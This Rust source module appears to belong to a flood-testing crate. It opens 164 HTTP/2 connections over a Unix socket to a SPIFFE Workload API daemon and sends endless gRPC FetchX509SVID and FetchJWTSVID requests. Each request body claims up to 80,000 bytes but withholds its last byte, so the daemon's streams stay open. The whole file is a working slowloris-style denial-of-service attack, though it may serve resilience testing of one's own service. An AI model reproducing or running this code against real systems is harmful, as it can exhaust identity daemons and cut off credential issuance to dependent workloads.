//! Requests that lack their last byte. An HTTP/2 library sends them, for it keeps to the daemon's windows.

use std::convert::Infallible;
use std::pin::Pin;
use std::task::Context;
use std::task::Poll;

use bytes::Bytes;
use http::Request;
use hyper::body::Body;
use hyper::body::Frame;
use hyper::client::conn::http2;
use hyper_util::rt::TokioExecutor;
use hyper_util::rt::TokioIo;
use tokio::net::UnixStream;
use tokio::task::JoinSet;

use crate::floods::Site;
use crate::floods::count;

const CONNECTIONS: usize = 164;
const REQUESTS: usize = 100;
/// The calls, and the length that each message claims.
const CALLS: [(&str, u32); 3] = [("FetchX509SVID", 4_096), ("FetchJWTSVID", 20_480), ("FetchX509SVID", 80_000)];

pub(super) async fn withhold(site: &Site) -> ! {
    let mut connections = JoinSet::new();
    for n in 0..CONNECTIONS {
        let socket = site.socket.clone();
        let (method, length) = CALLS[n % CALLS.len()];
        connections.spawn(async move {
            loop {
                let _closed = a_hundred(&socket, method, length).await;
                tokio::task::yield_now().await;
            }
        });
    }
    connections.join_all().await;
    std::future::pending().await
}

/// Returns once all are refused, or the connection is closed.
async fn a_hundred(
    socket: &std::path::Path,
    method: &str,
    length: u32,
) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let io = TokioIo::new(UnixStream::connect(socket).await?);
    let (mut sender, connection) = http2::handshake(TokioExecutor::new(), io).await?;
    tokio::spawn(connection);
    let mut answers = JoinSet::new();
    for _ in 0..REQUESTS {
        sender.ready().await?;
        let request = Request::post(format!("http://localhost/SpiffeWorkloadAPI/{method}"))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .header("workload.spiffe.io", "true")
            .body(WithoutItsLastByte(Some(length)))?;
        answers.spawn(sender.send_request(request));
        count(1);
    }
    answers.join_all().await;
    Ok(())
}

/// A message of this length, in a body that never ends.
struct WithoutItsLastByte(Option<u32>);

impl Body for WithoutItsLastByte {
    type Data = Bytes;
    type Error = Infallible;

    fn poll_frame(mut self: Pin<&mut Self>, _: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        let Some(length) = self.0.take() else { return Poll::Pending };
        let mut bytes = vec![0; 5 + length as usize - 1];
        bytes[1..5].copy_from_slice(&length.to_be_bytes());
        Poll::Ready(Some(Ok(Frame::data(bytes.into()))))
    }
}
